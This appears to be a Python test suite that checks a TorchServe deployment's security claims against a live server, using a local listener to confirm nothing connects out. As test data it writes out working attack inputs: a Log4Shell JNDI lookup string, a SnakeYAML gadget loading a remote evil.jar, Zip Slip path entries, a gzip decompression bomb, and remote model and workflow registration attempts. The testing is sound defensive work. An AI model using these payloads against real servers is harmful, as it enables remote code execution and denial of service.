"""What docs/operations/security.md claims of the server, tried on a live one.

A listener counts who connects to it: what is refused must also not have been looked at.
"""

from __future__ import annotations

import gzip
import importlib.resources
import io
import json
import socket
import threading
import time
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import psutil
import pytest
import requests

from deploy.server import HOST, ROOT, Ports, Server, ServerError, stop

ARCHIVE = ROOT / "model_store" / "dcgan.mar"


class Listener(ThreadingHTTPServer):
    """Serves an archive to everybody, and counts the connections, whatever they speak."""

    daemon_threads = True
    connections = 0

    def get_request(self) -> tuple[socket.socket, tuple[str, int]]:
        self.connections += 1
        return super().get_request()


class Archive(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        self.end_headers()
        self.wfile.write(ARCHIVE.read_bytes())

    def log_message(self, *_: object) -> None:
        pass


@contextmanager
def listener() -> Iterator[tuple[str, Listener]]:
    """host:port of a listener, and the listener."""
    with Listener((HOST, 0), Archive) as opened:
        thread = threading.Thread(target=opened.serve_forever)
        thread.start()
        yield f"{HOST}:{opened.server_port}", opened
        opened.shutdown()
        thread.join()


def test_the_listener_counts_connections() -> None:
    with listener() as (host, opened):
        assert requests.get(f"http://{host}/x", timeout=30).content == ARCHIVE.read_bytes()
        socket.create_connection((HOST, opened.server_port)).close()
        deadline = time.monotonic() + 30  # the listener's thread may not have had its turn yet
        while opened.connections < 2 and time.monotonic() < deadline:
            time.sleep(0.01)
    assert opened.connections == 2


def models(server: Server) -> list[str]:
    url = f"http://{HOST}:{server.ports.management}/models"
    return [model["modelName"] for model in requests.get(url, timeout=30).json()["models"]]


@pytest.mark.parametrize(
    "location",
    ["http://{host}/evil.mar", "dcgan.mar", "file://{archive}", "file://x@{host}/evil.mar"],
)
def test_no_model_is_registered_over_http(server: Server, location: str) -> None:
    """CVE-2023-43654 and CVE-2024-35198 need this door; enable_model_api=false shuts it."""
    with listener() as (host, opened):
        url = location.format(host=host, archive=ARCHIVE)
        management = f"http://{HOST}:{server.ports.management}"
        refused = requests.post(
            f"{management}/models", params={"url": url, "model_name": "evil"}, timeout=60
        )
    assert refused.status_code == 405
    assert opened.connections == 0
    assert models(server) == ["dcgan"]


def test_no_model_is_removed_over_http(server: Server) -> None:
    management = f"http://{HOST}:{server.ports.management}/models/{server.model}"
    assert requests.delete(management, timeout=60).status_code == 405
    assert requests.delete(f"{management}/1.0", timeout=60).status_code == 405
    assert models(server) == ["dcgan"]


@pytest.mark.parametrize(
    "location",
    [
        "http://{host}/evil.war", "file://{archive}", "../../evil.war", "evil.war", "dcgan.mar",
        "none", "",
    ],
)  # fmt: skip
def test_no_workflow_is_registered_over_http(server: Server, location: str) -> None:
    """enable_model_api does not cover workflows in 0.12; allowed_urls and workflow_store do."""
    with listener() as (host, opened):
        url = location.format(host=host, archive=ARCHIVE)
        refused = requests.post(
            f"http://{HOST}:{server.ports.management}/workflows", params={"url": url}, timeout=60
        )
    # A word that allowed_urls allows is no address that could be fetched.
    assert refused.status_code == (400 if location == "none" else 404)
    assert refused.json()["type"].startswith(("WorkflowNotFound", "DownloadArchive"))
    assert opened.connections == 0


@pytest.mark.parametrize("opened", [False, True])
def test_what_lies_in_the_model_store_is_not_run(tmp_path: Path, opened: bool) -> None:
    """A real workflow, whose function and whose model leave a mark when they run. With the model
    store as workflow store, which is what TorchServe takes without the setting, both do."""
    store, marks = tmp_path / "store", tmp_path / "marks"
    marks.mkdir()
    changed(store / "dcgan.mar", {}, {})
    code = (
        "from pathlib import Path\n\n"
        "Path({mark!r}).touch()\n\n"
        "def {name}(data, context):\n    return [b'' for _ in data or []]\n"
    )
    model, function = (
        code.format(mark=str(marks / name), name=name).encode() for name in ("handle", "draw")
    )
    changed(
        store / "other.mar", {"other.py": model},
        {"modelName": "other", "handler": "other.py", "configFile": ""},
    )  # fmt: skip
    spec = "models: {m: {url: other.mar}}\ndag: {draw: [m]}\n"
    workflow = {"workflowName": "evil", "specFile": "spec.yaml", "handler": "code.py"}
    with zipfile.ZipFile(store / "evil.war", "w") as war:
        facts = {"createdOn": "now", "archiverVersion": "0.2.15", "workflow": workflow}
        war.writestr("WAR-INF/MANIFEST.json", json.dumps(facts))
        war.writestr("spec.yaml", spec)
        war.writestr("code.py", function)
    server = Server(
        tmp_path / "server", store, Ports.free(),
        settings=(("workflow_store", str(store)),) if opened else (),
    )  # fmt: skip
    management = f"http://{HOST}:{server.ports.management}"
    with server.running():
        statuses = [
            requests.post(f"{management}/{path}", params=params, timeout=90).status_code
            for path, params in (
                ("workflows", {"url": "evil.war"}),
                ("workflows", {"url": "other.mar"}),
                ("models", {"url": "other.mar", "initial_workers": "1", "synchronous": "true"}),
            )
        ]
    assert {mark.name for mark in marks.iterdir()} == ({"handle", "draw"} if opened else set())
    assert opened or statuses == [404, 404, 405]


def test_the_inference_port_manages_nothing(server: Server) -> None:
    base = f"http://{HOST}:{server.ports.inference}"
    for path in ("/models", "/models/dcgan", "/workflows", "/metrics", "/token?type=inference"):
        assert requests.get(base + path, timeout=30).status_code == 404
    assert requests.post(f"{base}/models?url=dcgan.mar", timeout=30).status_code == 404


def test_no_model_is_registered_over_grpc(
    server: Server, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import grpc
    from grpc_tools import protoc

    jar = importlib.resources.files("ts") / "frontend" / "model-server.jar"
    with zipfile.ZipFile(str(jar)) as archive:
        for name in ("proto/management.proto", "google/rpc/status.proto"):
            archive.extract(name, tmp_path)
    well_known = str(importlib.resources.files("grpc_tools") / "_proto")
    arguments = ["protoc", f"-I{tmp_path}/proto", f"-I{tmp_path}", f"-I{well_known}"]
    arguments += [f"--python_out={tmp_path}", f"--grpc_python_out={tmp_path}"]
    assert protoc.main([*arguments, "management.proto"]) == 0
    monkeypatch.syspath_prepend(str(tmp_path))
    import management_pb2
    import management_pb2_grpc

    with (
        listener() as (host, opened),
        grpc.insecure_channel(f"{HOST}:{server.ports.grpc_management}") as channel,
    ):
        stub = management_pb2_grpc.ManagementAPIsServiceStub(channel)
        request = management_pb2.RegisterModelRequest(
            url=f"http://{host}/evil.mar", model_name="evil"
        )
        with pytest.raises(grpc.RpcError) as refused:
            stub.RegisterModel(request, timeout=60)
        assert refused.value.code() == grpc.StatusCode.PERMISSION_DENIED
    assert opened.connections == 0
    assert models(server) == ["dcgan"]


def test_nothing_a_client_sends_is_looked_up(server: Server) -> None:
    """CVE-2021-44228: a logger that follows addresses in what it logs."""
    with listener() as (host, opened):
        lookup = f"${{jndi:ldap://{host}/x}}"
        requests.post(
            f"{server.predict_url}/{lookup}",
            json={"seed": lookup, lookup: 1},
            headers={"User-Agent": lookup, "X-Request-Id": lookup, "describe": lookup},
            timeout=60,
        )
        assert (
            requests.post(server.predict_url, json={"seed": lookup}, timeout=60).status_code == 400
        )
    assert opened.connections == 0


def test_a_form_of_very_many_fields_harms_nobody(server: Server) -> None:
    """CVE-2024-29025: Netty keeps every field, so the limit of the body is what bounds them."""
    form = "&".join(f"{i:x}=" for i in range(50_000))
    headers = {"Content-Type": "application/x-www-form-urlencoded"}
    workers = processes(server)
    refused = requests.post(server.predict_url, data=form, headers=headers, timeout=60)
    assert refused.status_code == 400
    assert requests.post(server.predict_url, json={"seed": 1}, timeout=60).status_code == 200
    assert processes(server) == workers


def test_a_compressed_body_is_not_unpacked(server: Server) -> None:
    """Netty's decompressors (CVE-2021-37136 and -37137, CVE-2025-58057) are not in use."""
    headers = {"Content-Type": "application/json", "Content-Encoding": "gzip"}
    bomb = gzip.compress(b'{"seed": 1' + b" " * 50_000_000 + b"}")
    refused = requests.post(server.predict_url, data=bomb, headers=headers, timeout=60)
    assert refused.status_code == 415
    assert requests.post(server.predict_url, json={"seed": 1}, timeout=60).status_code == 200


def processes(server: Server) -> list[psutil.Process]:
    """TorchServe's Java process and its workers."""
    described = requests.get(server.describe_url, timeout=30).json()
    workers = [psutil.Process(worker["pid"]) for worker in described[0]["workers"]]
    java = workers[0].parent()
    assert java is not None
    return [java, *workers]


def test_every_port_is_on_the_loopback_interface(server: Server) -> None:
    """gRPC too, which CVE-2024-35199 had on every interface."""
    addresses = {
        connection.laddr.ip.removeprefix("::ffff:")
        for process in processes(server)
        for connection in process.net_connections("inet")
        if connection.status == psutil.CONN_LISTEN
    }
    assert addresses == {HOST}


def changed(target: Path, files: dict[str, bytes], manifest: dict[str, object]) -> None:
    """dcgan.mar with files replaced or added, and keys of its manifest's model changed."""
    target.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(ARCHIVE) as old, zipfile.ZipFile(target, "w") as new:
        for name in old.namelist():
            data = files.pop(name, old.read(name))
            if name == "MAR-INF/MANIFEST.json":
                facts = json.loads(data)
                facts["model"] |= manifest
                data = json.dumps(facts).encode()
            new.writestr(name, data)
        for name, data in files.items():
            new.writestr(name, data)


def test_secrets_and_an_archives_requirements_stay_out_of_the_worker(tmp_path: Path) -> None:
    """blacklist_env_vars, and install_py_dep_per_model=false: pip is not run for an archive."""
    package = io.BytesIO()
    with zipfile.ZipFile(package, "w") as wheel:
        wheel.writestr("dropped_by_pip.py", "")
        info = "dropped_by_pip-1.0.dist-info"
        wheel.writestr(
            f"{info}/METADATA", "Metadata-Version: 2.1\nName: dropped_by_pip\nVersion: 1.0\n"
        )
        wheel.writestr(
            f"{info}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        )
        wheel.writestr(f"{info}/RECORD", "")
    local = tmp_path / "dropped_by_pip-1.0-py3-none-any.whl"
    local.write_bytes(package.getvalue())
    changed(
        tmp_path / "store" / "dcgan.mar",
        {"requirements.txt": str(local).encode()},
        {"requirementsFile": "requirements.txt"},
    )
    secrets = {"AWS_SECRET_ACCESS_KEY": "a", "DB_PASSWORD": "b", "HUB_TOKEN": "c"}
    server = Server(
        tmp_path / "server", tmp_path / "store", Ports.free(),
        environment=(*secrets.items(), ("DCGAN_PLAIN", "d")),
    )  # fmt: skip
    with server.running():
        _, worker = processes(server)
        seen = worker.environ()
        assert "DCGAN_PLAIN" in seen
        assert not secrets.keys() & seen.keys()
        assert not list(server.folder.rglob("dropped_by_pip*"))


def a_way_out(folder: Path, _: str) -> None:
    """CVE-2023-48299: an entry whose name climbs out of the folder it is unpacked to."""
    changed(folder / "dcgan.mar", {"../../../../escaped": b"x", "../escaped": b"x"}, {})


def a_java_object(folder: Path, host: str) -> None:
    """CVE-2022-1471: YAML that asks SnakeYAML to make Java objects."""
    gadget = (
        "minWorkers: 1\nmaxWorkers: 1\nhandler: !!javax.script.ScriptEngineManager "
        f'[!!java.net.URLClassLoader [[!!java.net.URL ["http://{host}/evil.jar"]]]]\n'
    )
    changed(folder / "dcgan.mar", {"model-config.yaml": gadget.encode()}, {})


@pytest.mark.parametrize(
    ("make", "reason"),
    [(a_way_out, "Detected Zip Slip"), (a_java_object, "Failed to parse model config file")],
)
def test_a_hostile_archive_is_not_served(
    tmp_path: Path, make: Callable[[Path, str], None], reason: str
) -> None:
    with listener() as (host, opened):
        make(tmp_path / "store", host)
        server = Server(tmp_path / "server", tmp_path / "store", Ports.free())
        process = server.start()
        try:
            with pytest.raises(ServerError, match=reason):
                server.wait_until_ready(process, timeout_s=90)
        finally:
            stop(process.pid)
    assert opened.connections == 0
    assert not list(tmp_path.rglob("escaped"))
